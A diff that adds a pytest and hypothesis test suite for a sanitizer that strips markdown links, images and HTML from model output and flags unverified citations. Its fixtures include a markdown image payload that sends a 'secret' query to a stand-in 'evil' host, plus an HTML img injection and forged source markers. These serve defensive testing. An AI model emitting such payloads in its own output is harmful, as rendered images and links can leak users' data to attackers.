@@ -1,0 +1,122 @@
+"""What a model writes, as readers get it."""
+
+import re
+import time
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from shared.evidence.reader_text import ReaderText
+
+_LINKS = (
+    "[x](https://e)",
+    "![x](u)",
+    "[](u)",
+    "[u]: https://e",
+    "<http://e>",
+    "://",
+    "http",
+    "www",
+    ":",
+    "/",
+    ".",
+)
+_BRACKETS = ("[", "]", "(", ")", "!", "<", "<img src=u>", "<br>", "&", "&#91;", "\\")
+_PROOFS = ("[1]", "(Source: m.pdf)[1]", "(Sou", "rce", "1")
+_BLOCKS = ("\n", "\n\n", "\r", "- ", "> ", "    ", "   ", "| ", "`", "``", "```", "~~~")
+_WORDS = (" ", "x", "u", "*", '"')
+PARTS = st.sampled_from(_LINKS + _BRACKETS + _PROOFS + _BLOCKS + _WORDS)
+NOTE = "(Source: m.pdf, S. 3)[1]"
+
+
+def shown(text: str, cuts: list[int] | None = None) -> str:
+    reader, parts, position = ReaderText(), [], 0
+    for cut in [*sorted(min(cut, len(text)) for cut in cuts or []), len(text)]:
+        parts.append(reader.feed(text[position:cut]))
+        position = max(position, cut)
+    return "".join([*parts, reader.finish()])
+
+
+@pytest.mark.parametrize(
+    ("written", "read"),
+    [
+        ("A ![x](https://evil/?q=secret) b", "A x b"),
+        ('See [the page](https://evil/a_(b) "t"), now', "See the page, now"),
+        ("[a](see page 3)", "[a] (see page 3)"),
+        ("15 bar (Source: m.pdf, S. 4)[1].", "15 bar (Source unchecked: m.pdf, S. 4)(1)."),
+        ("15 bar [ 2 ], [2023] and [a]", "15 bar (2), [2023] and [a]"),
+        ("[a][b] and [b]: https://evil", "[a] [b] and [b] : https: //evil"),
+        ("at https://a.example/b or www.a.example", "at https: //a.example/b or www .a.example"),
+        ("<img src=x> a < b, a <b, <br>", "&lt;img src=x> a < b, a &lt;b, <br>"),
+        ("`a[1](x)` and `b", "`a[1](x)` and `b"),
+        ("```\na[1](x)\n```\na[1](x)", "```\na[1](x)\n```\na(1)"),
+        ("[![x](u)](https://evil)", "[x] (https: //evil)"),
+        ("[[1](x)] and [1[2]]", "[(1)] and [1(2)]"),
+        ("(Sou[](x)rce: m.pdf)", "(Source unchecked: m.pdf)"),
+        ("[x", "[x"),
+        ("| a | b |\n|---|---|\n| 1 | 2 |", "| a | b |\n|---|---|\n| 1 | 2 |"),
+        ("**x** *y* _z_ ~~w~~ 10:30 a/b C:/x", "**x** *y* _z_ ~~w~~ 10:30 a/b C:/x"),
+    ],
+)
+def test_signs_that_load_link_or_forge_are_taken_out(written: str, read: str) -> None:
+    assert shown(written) == read
+    assert shown(written, list(range(len(written)))) == read
+
+
+@given(st.lists(PARTS, max_size=25).map("".join), st.lists(st.integers(0, 150), max_size=20))
+def test_cuts_anywhere_change_nothing(text: str, cuts: list[int]) -> None:
+    assert shown(text, cuts) == shown(text)
+
+
+@given(st.lists(PARTS, max_size=25).map("".join))
+def test_no_reader_of_markdown_sees_a_link_a_picture_or_html(text: str) -> None:
+    assert live_tokens(shown(text)) == []
+
+
+@given(st.lists(st.tuples(st.lists(PARTS, max_size=8).map("".join), st.booleans()), max_size=5))
+def test_nor_with_our_proofs_between(parts: list[tuple[str, bool]]) -> None:
+    reader = ReaderText()
+    text = "".join(reader.feed(part) + (reader.note(NOTE) if is_note else "") for part, is_note in parts)
+    assert live_tokens(text + reader.finish()) == []
+
+
+@given(st.lists(PARTS.filter(lambda part: "`" not in part and "~" not in part), max_size=25).map("".join))
+def test_outside_code_nothing_looks_like_a_proof(text: str) -> None:
+    assert not re.search(r"\[\s*\d{1,3}\s*\]|\(\s*Source\s*:", shown(text))
+
+
+@given(st.text(alphabet="[](!`~x\n", max_size=40))
+def test_what_is_shown_of_the_start_stays(text: str) -> None:
+    reader = ReaderText()
+    parts = [reader.feed(character) for character in text]
+    assert shown(text).startswith("".join(parts))
+
+
+def test_no_more_is_held_back_than_a_link_may_be_long() -> None:
+    for opening in ("[", "[x](", "`", "```"):
+        reader = ReaderText()
+        fed = opening + "x" * 2000
+        assert len(reader.feed(fed)) >= len(fed) - 500
+
+
+@pytest.mark.parametrize(
+    "text", ["<" * 100_000, "[" * 100_000, "`" * 100_000, "` ``" * 25_000, "[x](" * 5_000]
+)
+def test_long_rubbish_takes_no_quadratic_time(text: str) -> None:
+    started = time.process_time()
+    shown(text)
+    assert time.process_time() - started < 10  # a guard against hanging
+
+
+def live_tokens(text: str) -> list[str]:
+    """Tokens of links, pictures and HTML (other than line breaks) that a CommonMark reader finds."""
+    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(text)
+    inner = [child for token in tokens for child in token.children or []]
+    return [
+        f"{token.type} {token.content}"
+        for token in [*tokens, *inner]
+        if token.type in ("link_open", "image", "html_block")
+        or (token.type == "html_inline" and token.content.replace(" ", "") not in ("<br>", "<br/>"))
+    ]
